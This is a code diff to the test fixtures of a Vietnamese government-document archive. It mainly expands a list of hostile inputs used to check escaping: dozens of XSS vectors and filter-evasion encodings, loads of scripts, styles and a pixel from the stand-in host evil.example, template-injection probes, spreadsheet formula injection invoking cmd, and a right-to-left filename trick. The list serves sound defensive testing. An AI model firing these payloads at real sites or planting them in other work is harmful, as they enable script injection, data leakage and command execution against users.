@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import hashlib
 import json
+import re
 from dataclasses import dataclass, field
 from datetime import UTC, datetime
 from pathlib import Path
@@ -13,6 +14,8 @@ from sqlite_utils import Database
 from archive import index
 from archive.database import open_for_writing
 from archive.folder import ArchiveFolder
+from archive.vietnamese.agencies import resolve_issuer
+from archive.vietnamese.bodies import Agency
 from archive.vietnamese.documents import number_alias
 from archive.vietnamese.spelling import FOLD_VERSION
 from archive.warc import WarcWriter, digest_of
@@ -180,24 +183,85 @@ ITEMS = [
     ),
 ]
 
+RUN = "document.title='pwned'"
 HOSTILE = [
-    "<script>document.title='pwned'</script>",
-    "<img src=x onerror=\"document.title='pwned'\">",
-    "\"><svg onload=document.title='pwned'>",
-    "'-alert(1)-'",
-    "{{ 7 * 7 }}",
-    "{% raw %}",
-    "javascript:document.title='pwned'",
-    "</title><script>document.title='pwned'</script>",
-    "</textarea><script>document.title='pwned'</script>",
-    "<a href=\"javascript:document.title='pwned'\">bấm</a>",
-    "<iframe srcdoc=\"<script>parent.document.title='pwned'</script>\"></iframe>",
-    "=HYPERLINK(\"http://evil.example\",\"bấm\")",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
+    f"<script>{RUN}</script>",
+    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT>{RUN}",
+    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    f"<script\x0c>{RUN}</script>",
+    f"<img src=x onerror=\"{RUN}\">",
+    f"<img/src=x/onerror={RUN}>",
+    f"<img src=x:x onerror&#61;{RUN}>",
+    f"\"><svg onload={RUN}>",
+    f"'><svg/onload={RUN}>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    f"<svg><a xlink:href=\"javascript:{RUN}\"><text y=20>bấm</text></a></svg>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
+    f"<body onload={RUN}>",
+    f"<input autofocus onfocus={RUN}>",
+    f"\" autofocus onfocus={RUN} x=\"",
+    f"' onmouseover={RUN} x='",
+    f"` onmouseover={RUN} x=`",
+    f"<details open ontoggle={RUN}>",
+    f"<video><source onerror={RUN}></video>",
+    f"<audio src=x onerror={RUN}>",
+    f"<marquee onstart={RUN}>",
+    f"<select autofocus onfocus={RUN}>",
+    f"<textarea autofocus onfocus={RUN}>",
+    f"<keygen autofocus onfocus={RUN}>",
+    f"<object data=\"javascript:{RUN}\">",
+    f"<embed src=\"javascript:{RUN}\">",
+    f"<iframe src=\"javascript:parent.{RUN}\"></iframe>",
+    f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>",
+    f"<form action=\"javascript:{RUN}\"><button>bấm</button></form>",
+    f"<button formaction=\"javascript:{RUN}\">bấm</button>",
+    f"<isindex action=javascript:{RUN}>",
+    f"<a href=\"javascript:{RUN}\">bấm</a>",
+    f"<a href=\"java&#9;script:{RUN}\">bấm</a>",
+    f"<a href=\"data:text/html,<script>{RUN}</script>\">bấm</a>",
+    f"javascript:{RUN}",
+    f"JaVaScRiPt:{RUN}",
+    f"java\tscript:{RUN}",
+    f"\x01javascript:{RUN}",
+    f"vbscript:{RUN}",
+    f"data:text/html,<script>{RUN}</script>",
+    f"//evil.example/{RUN}",
+    f"</title><script>{RUN}</script>",
+    f"</textarea><script>{RUN}</script>",
+    f"</script><script>{RUN}</script>",
+    f"</style><script>{RUN}</script>",
+    f"--><script>{RUN}</script><!--",
+    f"]]><script>{RUN}</script>",
+    f"<!--[if IE]><script>{RUN}</script><![endif]-->",
+    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
+    f"<template><script>{RUN}</script></template>",
+    f"&lt;script&gt;{RUN}&lt;/script&gt;",
+    f"%3Cscript%3E{RUN}%3C/script%3E",
+    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
+    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
+    f"＜script＞{RUN}＜/script＞",
     "<style>*{display:none}</style>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
     "<base href=\"http://evil.example/\">",
     "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">",
+    "<img src=//evil.example/pixel.gif>",
+    "{{ 7 * 7 }}",
+    "{% raw %}",
+    "${7*7}",
+    "'-alert(1)-'",
+    "=HYPERLINK(\"http://evil.example\",\"bấm\")",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "\u202etxt.exe\u202d",
 ]
+"""Texts that run a script, load a page or a pixel, reform the page or start a spreadsheet's formula where one of them
+gets through unescaped."""
+
+
+_LIKE_AN_ADDRESS = re.compile(r"\W*(?:java\s?script|vbscript|data):|//", re.IGNORECASE)
 
 
 def hostile_items() -> list[Item]:
@@ -209,7 +273,7 @@ def hostile_items() -> list[Item]:
             "2020-12-01",
             lead=payload,
             byline=payload,
-            url=payload if payload.startswith("javascript:") else f"https://xss.example.vn/{number}",
+            url=payload if _LIKE_AN_ADDRESS.match(payload) else f"https://xss.example.vn/{number}",
             papers=[Paper(payload, "cites", printed=payload)],
             attachments=[(payload, payload), (f"data:text/html,{payload}", payload)],
             captions=[payload],
@@ -350,6 +414,13 @@ def _put_capture(database: Database, warc: WarcWriter, portal: str, url: str, pa
     return int(database.table("capture").insert(row).last_rowid or 0)
 
 
+def issued_by(paper: Paper, item: Item) -> str | None:
+    """The agency behind the issuer's code, as the archive's writer resolves it beside the portal."""
+    province, agency = next((portal[2], portal[4]) for portal in PORTALS if portal[0] == item.portal)
+    found = resolve_issuer(paper.issuer, province=province, agency=agency, level="province") if paper.issuer else None
+    return found.name if isinstance(found, Agency) else None
+
+
 def _put_mention(
     database: Database, announcement: int, position: int, paper: Paper, item: Item, documents: dict[str, int]
 ) -> None:
@@ -361,7 +432,7 @@ def _put_mention(
             "alias": number_alias(paper.number),
             "type": paper.type,
             "issuer": paper.issuer,
-            "issued_by": None,
+            "issued_by": issued_by(paper, item),
             "place": None,
             "year": int(paper.dated[:4]) if paper.dated else None,
             "dated": paper.dated,
